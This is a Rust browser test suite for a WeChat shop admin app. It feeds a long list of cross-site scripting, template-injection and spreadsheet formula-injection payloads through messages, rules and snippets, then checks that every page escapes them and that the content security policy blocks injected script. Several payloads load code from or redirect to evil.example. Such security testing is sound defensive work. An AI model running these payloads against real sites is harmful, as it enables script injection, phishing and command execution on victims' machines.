//! Customers' texts are texts: a collection of attacks is sent in as messages, and every page is visited in a browser whose policy is
//! switched off, so that nothing but correct escaping stands between the attacks and the page.

use std::collections::BTreeSet;

use jiff::Timestamp;
use serde_json::json;
use wxreply::message::{Fields, OpenId};
use wxreply::simulator::{Fault, FaultSetting, PushBody};

use crate::browser::Browser;
use crate::people::OPS;
use crate::shop::Shop;
use crate::tour::{Sights, encoded};
use crate::world::http;

/// What attackers write. Each would set `__xss`, call `alert`, or leave an element behind.
const ATTACKS: &[&str] = &[
    "<script>alert(1)</script>",
    "<ScRiPt>__xss=1</sCrIpT>",
    "</script><script>alert(2)</script>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(3)>",
    "<img src=x onerror=\"__xss=1\">",
    "\"><img src=x onerror=alert(4)>",
    "'><img src=x onerror=alert(5)>",
    "\" onmouseover=\"alert(6)\" x=\"",
    "' onfocus='alert(7)' autofocus='",
    "` onclick=`alert(8)`",
    "<svg onload=alert(9)>",
    "<svg><script>alert(10)</script></svg>",
    "<svg><animate onbegin=alert(11) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(12)>",
    "<details open ontoggle=alert(13)>x</details>",
    "<body onload=alert(14)>",
    "<iframe src=\"javascript:alert(15)\"></iframe>",
    "<iframe srcdoc=\"<script>parent.__xss=1</script>\"></iframe>",
    "<object data=\"javascript:alert(16)\"></object>",
    "<embed src=//evil.example/x.swf>",
    "<a href=\"javascript:alert(17)\">click me</a>",
    "javascript:alert(18)",
    "JaVaScRiPt:alert(19)//https://example.com",
    "data:text/html,<script>alert(20)</script>",
    "[click](javascript:alert(21))",
    "![x](x\" onerror=\"alert(22))",
    "{{7*7}} ${7*7} #{7*7} <%= 7*7 %> {% raw %}",
    "{{ msg.__class__ }} {{ app.secret }}",
    "</textarea><script>alert(23)</script>",
    "</title><script>alert(24)</script>",
    "</style><script>alert(25)</script><style>*{display:none}",
    "--><script>alert(26)</script><!--",
    "]]><script>alert(27)</script>",
    "<form action=//evil.example><button formaction=javascript:alert(28)>x",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';body{background:red}</style>",
    "&lt;img src=x onerror=alert(29)&gt; &#60;script&#62;",
    "\u{ff1c}script\u{ff1e}alert(30)\u{ff1c}/script\u{ff1e}",
    "<\u{0}script>alert(31)</script>",
    "\u{202e}>tpircs<(23)trela\u{202c} \u{2066}x\u{2069} \u{200b}\u{feff}",
    "مرحبا <b>هل</b> المتجر مفتوح اليوم؟",
    "<p class=\"notice bad\" id=toasts role=alert>Session over: <a href=//evil.example>sign in</a>",
    "=HYPERLINK(\"http://evil.example\";\"x\")",
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd",
    "-2+3+cmd|' /C calc'!A0",
];

/// A rule whose own words attack, and one that says back what it is told.
const RULES: &str = r#"
[[rule]]
name = '"><img src=x onerror=alert("rule")>'
owner = "<script>alert('owner')</script>"
note = "</textarea><script>alert('note')</script>"
when.keywords = ["<b>attack</b>", "script"]
reply = "<script>alert('reply')</script> {{ msg.Content }}"

[[rule]]
name = "javascript:alert('name')"
when.keywords = ["onerror"]
reply = { link = { title = "<img src=x onerror=alert('title')>", description = "</p><script>alert('text')</script>", url = "https://example.com/\"onclick=alert('url')", thumb_url = "https://example.com/x.png" } }
"#;

#[tokio::test(flavor = "multi_thread")]
async fn no_text_of_anybody_becomes_a_part_of_a_page() {
    let shop = Shop::open(RULES).await;
    let customers = attacked(&shop).await;
    let sights = Sights::of(&shop).await;
    let browser = shop.browser_of(&OPS).await;
    browser.cdp("Page.setBypassCSP", json!({ "enabled": true })).await;
    assert_alarm_works(&browser).await;

    let mut paths: BTreeSet<String> = sights.tour().into_iter().map(|stop| stop.path).collect();
    for customer in &customers {
        paths.insert(format!("/conversations/shop/{}", encoded(customer)));
    }
    for query in [
        "\"><img src=x onerror=alert(1)>",
        "{{7*7}}",
        "<script>alert(1)</script>",
    ] {
        for page in [
            "/conversations?q=",
            "/messages?search=",
            "/rules/draft?text=",
            "/sign-in?next=",
            "/?app=",
            "/outbox?status=",
        ] {
            paths.insert(format!("{page}{}", encoded(query)));
        }
    }
    for entry in shop.world.log().await.iter().rev().step_by(7) {
        paths.insert(sights.message(entry));
    }
    for path in paths {
        browser.goto(&path).await;
        assert_clean(&browser, &path).await;
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn attacks_can_be_read_as_they_were_written() {
    let shop = Shop::open(RULES).await;
    attacked(&shop).await;
    let browser = shop.browser_of(&OPS).await;
    browser.goto("/conversations/shop/oAttacker").await;
    browser.sees("cmd").await;
    while browser.offers("Earlier messages").await {
        let rows = browser
            .run("document.querySelectorAll('#messages > li').length")
            .await;
        browser
            .css("a[data-older]")
            .await
            .send_keys("\n")
            .await
            .expect("a link");
        let more = format!("document.querySelectorAll('#messages > li').length > {rows}");
        browser.until("there are more", &more).await;
    }
    let squeeze = |text: &str| text.split_whitespace().collect::<String>();
    let shown = squeeze(&browser.text().await);
    for attack in ATTACKS {
        // U+0000 can stand in no page.
        let attack = squeeze(attack).replace('\0', "\u{fffd}");
        assert!(
            shown.contains(&attack) || shown.contains(&attack.replace('\u{fffd}', "")),
            "{attack}\nis not in\n{shown}"
        );
    }
    assert_clean(&browser, "the thread").await;
}

#[tokio::test(flavor = "multi_thread")]
async fn the_policy_stops_what_escaping_would_have_missed() {
    let shop = Shop::open_to_all("").await;
    let browser = shop.browser().await;
    browser.goto("/").await;
    let inject = "const s = document.createElement('div');
        s.innerHTML = '<img src=x onerror=\"window.__xss = 1\"><style>body { color: red }</style>';
        document.body.append(s);
        const t = document.createElement('script'); t.textContent = 'window.__xss = 1'; document.body.append(t);
        const u = document.createElement('script'); u.src = 'data:text/javascript,window.__xss=1'; document.body.append(u);";
    browser.run_with(inject, Vec::new()).await;
    browser
        .until("the policy was violated", "window.__alarms.length >= 4")
        .await;
    assert!(browser.run("window.__xss").await.is_null());
    assert_ne!(
        browser.run("getComputedStyle(document.body).color").await,
        "rgb(255, 0, 0)"
    );
}

/// Sends every attack in every place where a customer's words can stand; gives the customers.
async fn attacked(shop: &Shop) -> Vec<String> {
    let world = &shop.world;
    let mut customers = vec!["oAttacker".to_owned()];
    for attack in ATTACKS {
        assert_eq!(world.say("oAttacker", attack).await.status, 200);
    }
    for (n, attack) in ATTACKS.iter().enumerate().step_by(5) {
        let clean: String = attack.chars().filter(|c| !c.is_control()).collect();
        let openid = format!("o{n}{clean}");
        world.say(&openid, &format!("{attack} script")).await;
        let fields: Fields = [
            ("SessionFrom", *attack),
            ("<img src=x onerror=alert('field')>", "x"),
        ]
        .into_iter()
        .collect();
        let now = Timestamp::now();
        let from = OpenId::from(openid.as_str());
        world
            .push(&PushBody::event(
                &world.account,
                &from,
                "user_enter_tempsession",
                fields.clone(),
                now,
            ))
            .await;
        world
            .push(&PushBody::event(&world.account, &from, attack, fields, now))
            .await;
        let id = wxreply::simulator::msg_id(now, &mut rand::rng());
        world
            .push(&PushBody::mini_program_page(
                &world.account,
                &from,
                attack,
                attack,
                id,
                now,
            ))
            .await;
        let id = wxreply::simulator::msg_id(now, &mut rand::rng());
        world
            .push(&PushBody::image(
                &world.account,
                &from,
                "javascript:alert('picture')",
                attack,
                id,
                now,
            ))
            .await;
        customers.push(openid);
    }
    world.outbox_empty().await;
    // Replies whose texts attack, left in the outbox.
    world.wechat.set_fault(Fault::Quota, FaultSetting::ALWAYS);
    for attack in ATTACKS.iter().step_by(4) {
        world.say("oAttacker", &format!("{attack} script")).await;
    }
    world.outbox_empty().await;
    // Snippets, and rows of the audit trail, of a colleague who is none.
    for attack in ATTACKS.iter().step_by(4) {
        let name: String = attack
            .chars()
            .filter(|c| !c.is_control() && *c != '/')
            .take(40)
            .collect();
        let form = [("name", name.trim()), ("text", *attack)];
        let saved = http()
            .post(format!("{}/snippets", world.admin))
            .basic_auth(OPS.name, Some(OPS.password))
            .header("Content-Type", "application/x-www-form-urlencoded")
            .body(
                form_urlencoded::Serializer::new(String::new())
                    .extend_pairs(form)
                    .finish(),
            )
            .send()
            .await
            .expect("an answer");
        assert!(
            saved.status().is_success() || saved.status().is_redirection(),
            "{}",
            saved.status()
        );
    }
    customers
}

/// Without the policy, an attack that gets through rings.
async fn assert_alarm_works(browser: &Browser) {
    browser.goto("/").await;
    browser
        .run_with(
            "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=alert(0)>')",
            Vec::new(),
        )
        .await;
    browser
        .until("the alarm rings", "window.__alarms.length > 0")
        .await;
    let found = browser
        .run_with(include_str!("scripts/foreign.js"), Vec::new())
        .await;
    assert_eq!(found.as_array().map(Vec::len), Some(1), "{found}");
}

async fn assert_clean(browser: &Browser, path: &str) {
    let foreign = browser
        .run_with(include_str!("scripts/foreign.js"), Vec::new())
        .await;
    assert_eq!(foreign, json!([]), "{path}");
    assert_eq!(browser.alarms().await, [""; 0], "{path}");
    assert!(browser.run("window.__xss").await.is_null(), "{path}");
}
